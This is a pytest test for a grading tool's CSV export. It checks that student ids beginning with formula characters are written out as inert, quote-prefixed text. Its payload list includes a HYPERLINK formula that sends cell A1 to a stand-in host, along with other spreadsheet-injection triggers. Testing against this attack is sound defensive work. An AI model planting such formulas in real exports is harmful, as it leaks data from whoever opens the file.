"""``ctcourse export`` writes no live spreadsheet formula, whatever a trainee id or name holds."""

from __future__ import annotations

import csv

import pytest
from cohort import released_course, write_submission
from nbgrader.api import Gradebook

from ctcourse.cli import main

pytestmark = pytest.mark.slow
FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


def test_formula_leading_fields_are_exported_inert(tmp_path, capsys):
    root = released_course(tmp_path / "c")
    write_submission(root, "alice", "quiz", {"t.single": "b"})
    assert main(["autograde", "quiz", "--root", str(root)]) == 0
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}", "testcourse") as gb:
        for value in FORMULAS:  # e.g. added by an LMS import or an older grader
            gb.add_student(value)

    assert main(["export", "--out", str(tmp_path / "scores.csv"), "--root", str(root)]) == 0

    rows = list(csv.DictReader((tmp_path / "scores.csv").open(newline="", encoding="utf-8-sig")))
    ids = {row["student_id"] for row in rows}
    assert ids == {"alice", *("'" + value for value in FORMULAS)}
    alice = next(row for row in rows if row["student_id"] == "alice" and row["module"] == "quiz")
    assert alice["t.single"] == "1" and alice["submitted"] == "yes"
